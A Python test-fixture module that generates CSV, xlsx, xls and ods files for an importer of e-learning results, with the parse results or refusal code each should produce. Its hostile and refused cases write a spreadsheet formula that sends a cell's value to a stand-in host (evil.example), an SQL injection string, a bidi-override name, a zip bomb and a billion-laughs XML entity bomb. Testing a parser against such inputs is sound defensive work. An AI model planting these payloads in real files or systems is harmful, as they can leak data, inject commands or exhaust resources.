"""Files as administrators have them, good, ugly, damaged and hostile, made by script.

Each has its expected results, numbers, problems and remarks, or the code for which it is
refused. Nothing here knows how they are read.
"""

import zipfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from datetime import datetime
from itertools import product
from pathlib import Path
from typing import Any

import xlsxwriter
from tables import Rows, as_text, write_ods, write_text, write_xls, write_xlsx

from peonline_desktop.domain.reading import HowToRead

FIELDS = ("person", "activity", "finished", "verdict", "Relatienummer")
LIST = ("Personeelsnummer", "E-learning", "Afgerond op", "Resultaat", "Relatienummer")
SEPARATORS = {";": "punt", ",": "komma", "\t": "tab", "|": "streep"}
MARCH = datetime(2026, 3, 2, 14, 5)


@dataclass(frozen=True)
class Case:
    """One file. *results* are (person, activity, day, verdict), *numbers* person -> number,
    *problems* (row, column, code), *notes* rows that are remarks.
    """

    name: str
    write: Callable[[Path], Any]
    results: list[tuple] = field(default_factory=list)
    numbers: dict[str, str] = field(default_factory=dict)
    problems: list[tuple] = field(default_factory=list)
    notes: list[int] = field(default_factory=list)
    refused: str = ""
    how: HowToRead = field(default_factory=lambda: HowToRead({}))


def passed(*people: str, day: str = "2026-03-02", activity: str = "MED") -> list[tuple]:
    """A pass of each of these people."""
    return [(person, activity, day, "passed") for person in people]


def text(content: str, encoding: str = "utf-8") -> Callable[[Path], Any]:
    """Writes this text."""
    return lambda path: path.write_bytes(content.encode(encoding))


def raw(content: bytes) -> Callable[[Path], Any]:
    """Writes these bytes."""
    return lambda path: path.write_bytes(content)


def row(person: str = "p1", day: object = "02-03-2026", verdict: object = "Geslaagd") -> list:
    """One row of the list."""
    return [person, "MED", day, verdict, "061001"]


def every_shape() -> Iterator[Case]:
    """One table in all encodings, separators, line ends and kinds of workbook."""
    rows = [
        FIELDS,
        ["Hélène", "MED", MARCH, "Geslaagd", "061001"],
        ["p2", "MED", datetime(2026, 3, 3), "niet behaald", "610002"],
    ]
    expected = {
        "results": [
            ("Hélène", "MED", "2026-03-02", "passed"),
            ("p2", "MED", "2026-03-03", "failed"),
        ],
        "numbers": {"Hélène": "061001"},
    }
    encodings = ("utf-8", "utf-8-sig", "cp1252", "utf-16", "utf-16-le", "utf-16-be")
    for separator, encoding in product(SEPARATORS, encodings):
        name = SEPARATORS[separator]

        def write(path: Path, separator: str = separator, encoding: str = encoding) -> None:
            write_text(path, rows, separator, encoding)

        yield Case(f"{name}-{encoding}.csv", write, **expected)
    for name, ends in (("windows", "\r\n"), ("mac", "\r")):
        yield Case(f"{name}.txt", lambda p, e=ends: write_text(p, rows, ends=e), **expected)
    yield Case("tekst-van-excel.csv", text("sep=|\n" + as_text(rows, "|")), **expected)
    yield Case("aangehaald.csv", text(as_text(rows, ",", quotes=True)), **expected)
    yield Case("werkmap.xlsx", lambda p: write_xlsx(p, ("Blad1", rows)), **expected)
    yield Case("werkmap.xlsm", lambda p: write_xlsx(p, ("Blad1", rows)), **expected)
    yield Case("1904.xlsx", lambda p: write_xlsx(p, ("B", rows), from_1904=True), **expected)
    yield Case("oud.xls", lambda p: write_xls(p, rows), **expected)
    yield Case("oud-1904.xls", lambda p: write_xls(p, rows, from_1904=True), **expected)
    yield Case("libre.ods", lambda p: write_ods(p, rows), **expected)


def around_the_table() -> Iterator[Case]:
    """Titles, remarks, blank rows, headers of all sorts, several sheets."""
    good = passed("p1", "p2")
    numbers = {"p1": "061001", "p2": "061001"}
    table = [LIST, row(), row("p2")]
    titled = [["Scholing 2026"], ["Zorggroep De Linde", "maart"], [], *table]
    noted = [*table, [], ["Totaal", "2"], ["Gemaakt door Anna, vragen: tst. 12"]]
    gaps = [LIST, [], row(), [], [], row("p2"), []]
    pages = [*table[:2], LIST, *table[2:]]
    for kind, rows, notes in (
        ("titels", titled, []),
        ("opmerkingen", noted, [5, 6]),
        ("gaten", gaps, []),
        ("bladzijden", pages, [3]),
        ("alles", [*titled, [], ["* voorlopig"]], [8]),
    ):
        yield Case(
            f"{kind}.csv", lambda p, r=rows: write_text(p, r), good, numbers, notes=notes
        )
        yield Case(
            f"{kind}.xlsx",
            lambda p, r=rows: write_xlsx(p, ("B", r)),
            good,
            numbers,
            notes=notes,
        )
    spaced = [[f"  {h.upper()} " for h in LIST], *table[1:]]
    yield Case("koppen-hoofdletters.csv", text(as_text(spaced)), good)
    lines = [["Personeelsnummer", "E-learning", "Afgerond\nop", "Resultaat", "Relatienummer"]]
    yield Case(
        "koppen-twee-regels.xlsx", lambda p: write_xlsx(p, ("B", lines + table[1:])), good
    )
    double = [[*LIST, "", "Relatienummer"], [*row(), "x", "9"], [*row("p2"), "", ""]]
    yield Case(
        "koppen-dubbel-en-leeg.csv",
        lambda p: write_text(p, double),
        passed("p2"),
        {"p2": "061001"},
        problems=[(2, "Relatienummer", "cell_invalid")],
    )
    trailing = as_text(table).replace("\n", ";;;\n")
    yield Case("lege-kolommen-achteraan.csv", text(trailing), good, numbers)
    other = [["Uitleg", "bij", "deze", "lijst", "!"], ["Neem", "het", "tweede", "blad", ""]]
    yield Case(
        "tweede-blad.xlsx",
        lambda p: write_xlsx(p, ("Uitleg", other), ("R", table)),
        good,
        notes=[1],
    )
    yield Case(
        "genoemd-blad.xlsx",
        lambda p: write_xlsx(p, ("Oud", [LIST, row("p9")]), ("Nieuw", table)),
        good,
        how=HowToRead({}, sheet="Nieuw"),
    )
    yield Case("samengevoegd.xlsx", _merged, passed("p1") + passed("p1", activity="REA"))
    yield Case("verborgen-blad.xlsx", _hidden, good, notes=[1])
    yield Case(
        "kop-op-rij-3.csv",
        text(as_text([["a", "b", "c", "d", "e"], ["f", "g", "h", "i", "j"], *table])),
        good,
        notes=[1],
        how=HowToRead({}, header_row=3),
    )


def _merged(path: Path) -> None:
    with xlsxwriter.Workbook(path) as book:
        page = book.add_worksheet()
        page.write_row(0, 0, LIST)
        page.merge_range("A2:A3", "p1")
        for number, activity in enumerate(("MED", "REA"), start=1):
            page.write_row(number, 1, [activity, "02-03-2026", "ja", "061001"])


def _hidden(path: Path) -> None:
    with xlsxwriter.Workbook(path) as book:
        for name, people in (("Oud", ["p8"]), ("Nieuw", ["p1", "p2"])):
            page = book.add_worksheet(name)
            page.write_row(0, 0, LIST)
            for number, person in enumerate(people, start=1):
                page.write_row(number, 0, row(person))
            if name == "Oud":
                page.hide()
        book.worksheets()[1].activate()


def cells() -> Iterator[Case]:
    """Dates, verdicts, scores and numbers as they are written."""
    days = {
        "iso": "2026-03-02",
        "iso-tijd": "2026-03-02T14:05:09+01:00",
        "utc-avond": "2026-03-01T23:30:00Z",
        "kort-jaar": "2-3-26",
        "punten": "02.03.2026 14:05",
        "woorden-nl": "maandag 2 maart 2026",
        "woorden-en": "Monday, March 2, 2026 at 2:05 PM",
        "woorden-fr": "2 mars 2026",
        "volgnummer": "46083",
        "volgnummer-tijd": "46083,59",
        "apostrof": "'02-03-2026",
        "harde-spatie": "\u00a002-03-2026\u00a0",
    }
    for name, day in days.items():
        yield Case(f"datum-{name}.csv", text(as_text([LIST, row(day=day)])), passed("p1"))
    yield Case(
        "datum-volgnummer-1904.xlsx",
        lambda p: write_xlsx(p, ("B", [LIST, row(day=44621)]), from_1904=True),
        passed("p1"),
    )
    slashes = [LIST, row(day="03/04/2026"), row("p2", "25/04/2026")]
    yield Case(
        "datum-andere-rij-toont.csv",
        text(as_text(slashes)),
        [("p1", "MED", "2026-04-03", "passed"), ("p2", "MED", "2026-04-25", "passed")],
    )
    yield Case(
        "datum-tweeduidig.csv",
        text(as_text([LIST, row(day="03/04/2026"), row("p2", "05/05/2026")])),
        passed("p2", day="2026-05-05"),
        problems=[(2, "Afgerond op", "date_ambiguous")],
    )
    yield Case(
        "datum-amerikaans.csv",
        text(as_text([LIST, row(day="03/04/2026")])),
        passed("p1", day="2026-03-04"),
        how=HowToRead({}, date_order="mdy"),
    )
    verdicts = {
        "passed": "behaald VOLDAAN ja Passed TRUE 1 voldoende".split(),
        "failed": "gezakt Nee failed 0 onvoldoende".split(),
        "completed": "Voltooid afgerond Complete".split(),
        "open": ["niet voltooid", "Incomplete", ""],
    }
    for verdict, words in verdicts.items():
        rows = [LIST, *(row(f"p{n}", verdict=word) for n, word in enumerate(words))]
        found = [(f"p{n}", "MED", "2026-03-02", verdict) for n in range(len(words))]
        yield Case(f"uitslag-{verdict}.csv", text(as_text(rows)), found)
    scores = [
        ["person", "activity", "finished", "score"],
        *(
            [f"p{n}", "MED", "02-03-2026", s]
            for n, s in enumerate(("80%", "16/20", "79,5%", ""))
        ),
    ]
    yield Case(
        "cesuur.csv",
        text(as_text(scores)),
        [
            (f"p{n}", "MED", "2026-03-02", v)
            for n, v in enumerate(("passed", "passed", "failed", "open"))
        ],
        how=HowToRead({}, pass_mark="80%"),
    )
    numbers = [
        FIELDS,
        ["p1", "MED", "02-03-2026", "ja", "4,90012E+10"],
        ["p2", "MED", "02-03-2026", "ja", "'061002"],
        ["p3", "MED", "02-03-2026", "ja", "52/061003, 19/49001234500"],
        ["p4", "MED", "02-03-2026", "ja", "61 00 04"],
    ]
    yield Case(
        "nummers.csv",
        text(as_text(numbers)),
        passed("p1", "p2", "p3", "p4"),
        {"p1": "4,90012E+10", "p2": "061002", "p3": "061003", "p4": "610004"},
    )
    cells_as_numbers = [
        FIELDS,
        ["p1", "MED", MARCH, "ja", 610001],
        [7, "MED", MARCH, "ja", 610002.0],
    ]
    yield Case(
        "nummers-als-getal.xlsx",
        lambda p: write_xlsx(p, ("B", cells_as_numbers)),
        passed("p1", "7"),
        {"p1": "610001", "7": "610002"},
    )
    yield Case(
        "rijen-met-fouten.csv",
        text(
            as_text(
                [FIELDS, row(), ["", *row()[1:]], ["p3", "", *row()[2:]], row("p4", "gisteren")]
            )
            + "p5;MED;02-03-2026;misschien;1\np6;MED;;ja;1\np7;MED;02-03-2026\n"
            "p8;MED;02-03-2026;ja;1;2\np9;MED;01-01-2030;ja;1\na\x07b;MED;02-03-2026;ja;1\n"
        ),
        passed("p1"),
        problems=[
            (3, "person", "person_missing"),
            (4, "activity", "activity_missing"),
            (5, "finished", "date_unreadable"),
            (6, "verdict", "verdict_unknown"),
            (7, "finished", "date_missing"),
            (8, "verdict", "row_short"),
            (9, "", "row_long"),
            (10, "finished", "date_in_future"),
            (11, "person", "cell_invalid"),
        ],
    )
    yield Case(
        "regel-in-cel.csv",
        text(
            as_text(
                [(*FIELDS, "Opmerking"), [*row(), 'zei: "goed; heel\ngoed"'], [*row("p2"), ""]]
            )
        ),
        passed("p1", "p2"),
    )


def layouts() -> Iterator[Case]:
    """Reports of learning systems, in their own layout."""
    learnlinq = [
        ["UserId", "Timestamp", "LearningActivityTitle", "ResultId"],
        ["p1", "2026-03-02T10:00:00", "MED", "r1"],
    ]
    yield Case("learnlinq.csv", text(as_text(learnlinq, ",")), passed("p1"))
    course = (
        'ID,Name,"Email address",Toets,"Toets - Completion date","Course complete"\n'
        '3,"Ann Ot",ann@example.org,"Completed (achieved pass grade)","2026-03-02 13:18:49",""\n'
        '4,"Bo Ot",bo@example.org,"Not completed","2026-03-02 13:21:04",""\n'
    )
    expected = [
        ("ann@example.org", "Toets", "2026-03-02", "passed"),
        ("bo@example.org", "Toets", "2026-03-02", "open"),
    ]
    yield Case("moodle-cursus.csv", text(course), expected)
    progress = (
        ',"Email address","Lezen","","Toets",""\n'
        '"Ann Ot","ann@example.org","Completed","2026-03-01 09:00:00",'
        '"Completed (achieved pass grade)","2026-03-02 13:18:49"\n'
    )
    both = [("ann@example.org", "Lezen", "2026-03-01", "completed"), expected[0]]
    yield Case("moodle-voortgang.csv", text(progress), both)
    tabs = progress.replace(",", "\t")
    yield Case("moodle-voortgang-excel.csv", text(tabs, "utf-16"), both)
    grades = (
        'First name,Last name,"Email address",Toets,"Last downloaded from this course"\n'
        "Ann,Ot,ann@example.org,8,1780000000\n"
    )
    yield Case("moodle-cijfers.csv", text(grades), refused="no_completion_date")
    report = [["Medewerker", "Cursus", "Datum"], ["p1", "MED", "02-03-2026"]]
    pointed = HowToRead(
        {"person": "Medewerker", "activity": "Cursus", "finished": "Datum"}, all_passed=True
    )
    yield Case("eigen-rapport.csv", text(as_text(report)), passed("p1"), how=pointed)
    pasted = "person\tfinished\n19001\t02-03-2026\n19002\t02-03-2026\n"
    yield Case(
        "geplakt.txt",
        text(pasted),
        passed("19001", "19002"),
        how=HowToRead({}, activity="MED", all_passed=True),
    )


def refused() -> Iterator[Case]:
    """Files that are no list, are damaged, or mean harm."""
    table = [LIST, row()]
    yield Case("leeg.csv", raw(b""), refused="file_empty")
    yield Case("alleen-regels.csv", raw(b"\n\n\n"), refused="file_empty")
    yield Case("alleen-kop.csv", text(as_text([LIST])), refused="no_data_rows")
    yield Case(
        "foto.csv", raw(b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR" * 20), refused="file_is_picture"
    )
    yield Case("nullen.csv", raw(b"\0" * 5000), refused="file_not_text")
    yield Case("open-aanhaling.csv", text('a;b\n"c;d\ne;f\n'), refused="columns_missing")
    yield Case("lange-cel.csv", text("a;b\n" + '"' + "x" * 200_000), refused="columns_missing")
    yield Case("breed.csv", text(";".join("x" * 300) + "\n"), refused="too_many_columns")
    yield Case("geen-kop.csv", text(as_text([row(), row("p2")])), refused="columns_missing")
    yield Case("proza.txt", text("Beste Anna,\nhierbij de lijst.\n"), refused="columns_missing")
    yield Case("pagina.csv", text("<html><body>Inloggen</body></html>"), refused="file_is_page")
    yield Case(
        "geen-uitslag.csv",
        text(as_text([FIELDS[:3], row()[:3]])),
        refused="verdict_column_missing",
    )
    yield Case("vermomd.xlsx", text(as_text(table)), refused="file_not_what_it_says")
    yield Case(
        "vermomd.csv", lambda p: _under(p, ".xlsx", table), refused="file_not_what_it_says"
    )
    yield Case(
        "oud-als.xlsx", lambda p: _under(p, ".xls", table), refused="file_not_what_it_says"
    )
    yield Case("half.xlsx", lambda p: _cut(p, ".xlsx", table), refused="file_damaged")
    yield Case("half.xls", lambda p: _cut(p, ".xls", table), refused="file_damaged")
    yield Case("half.ods", lambda p: _cut(p, ".ods", table), refused="file_damaged")
    yield Case("zip.xlsx", lambda p: _zip(p, {"x.txt": b"x"}), refused="file_damaged")
    yield Case(
        "bom.xlsx", lambda p: _zip(p, {"xl/a.xml": b"\0" * 401_000_000}), refused="zip_bomb"
    )
    yield Case("lacher.xlsx", _laughs, refused="file_damaged")
    yield Case("leeg.xlsx", lambda p: write_xlsx(p, ("B", [])), refused="file_empty")
    yield Case(
        "ander-blad.xlsx",
        lambda p: write_xlsx(p, ("B", table)),
        refused="sheet_missing",
        how=HowToRead({}, sheet="C"),
    )
    yield Case(
        "rommel.xlsx", raw(b"PK\x03\x04" + bytes(range(256)) * 40), refused="file_damaged"
    )
    yield Case(
        "rommel.xls",
        raw(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\xff" * 9000),
        refused="file_damaged",
    )


def _under(path: Path, suffix: str, rows: Rows) -> None:
    """A workbook under another name."""
    real = path.with_name("echt" + suffix)
    {
        ".xlsx": lambda: write_xlsx(real, ("B", rows)),
        ".xls": lambda: write_xls(real, rows),
        ".ods": lambda: write_ods(real, rows),
    }[suffix]()
    real.rename(path)


def _cut(path: Path, suffix: str, rows: Rows) -> None:
    """Half a workbook."""
    _under(path, suffix, rows)
    content = path.read_bytes()
    path.write_bytes(content[: len(content) // 2])


def _zip(path: Path, entries: dict[str, bytes]) -> None:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in entries.items():
            archive.writestr(name, content)


def _laughs(path: Path) -> None:
    """A workbook whose texts are entities of entities: a billion laughs."""
    write_xlsx(path, ("B", [LIST, row()]))
    with zipfile.ZipFile(path) as archive:
        entries = {name: archive.read(name) for name in archive.namelist()}
    levels = "".join(
        f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' if n else '<!ENTITY l0 "ha">'
        for n in range(10)
    )
    entries["xl/sharedStrings.xml"] = (
        f'<?xml version="1.0"?><!DOCTYPE sst [{levels}]><sst xmlns="http://schemas.'
        'openxmlformats.org/spreadsheetml/2006/main"><si><t>&l9;</t></si></sst>'
    ).encode()
    _zip(path, entries)


def hostile() -> Iterator[Case]:
    """Files that can be read, with cells that mean harm: they stay text."""
    formula = '=HYPERLINK("http://evil.example/?"&A1;"klik")'
    rows = [
        FIELDS,
        ["p1", "MED", "02-03-2026", "ja", "061001"],
        [formula, "MED", "02-03-2026", "ja", ""],
    ]
    yield Case("formules.csv", text(as_text(rows)), passed("p1", formula))
    yield Case("formules.xlsx", lambda p: write_xlsx(p, ("B", rows)), passed("p1", formula))
    odd = "'; DROP TABLE result; --"
    yield Case("sql.csv", text(as_text([FIELDS, [f"x{odd}", *row()[1:]]])), passed(f"x{odd}"))
    emoji = "Zoë 👩🏽‍⚕️ \u202eomgekeerd"
    yield Case("tekens.csv", text(as_text([FIELDS, [emoji, *row()[1:]]])), passed(emoji))
    yield Case(
        "halve-tekens.csv",
        raw(
            as_text([FIELDS, row("Ren\xe9")]).encode("cp1252") + b"p2;MED;02-03-2026;ja;\x81\n"
        ),
        passed("Ren\xe9"),
        problems=[(3, "Relatienummer", "cell_invalid")],
    )
    yield Case(
        "accolades.csv", text(as_text([FIELDS, row("{0} {naam} %s")])), passed("{0} {naam} %s")
    )


def corpus() -> list[Case]:
    """All of them."""
    parts = (every_shape, around_the_table, cells, layouts, refused, hostile)
    return [case for part in parts for case in part()]
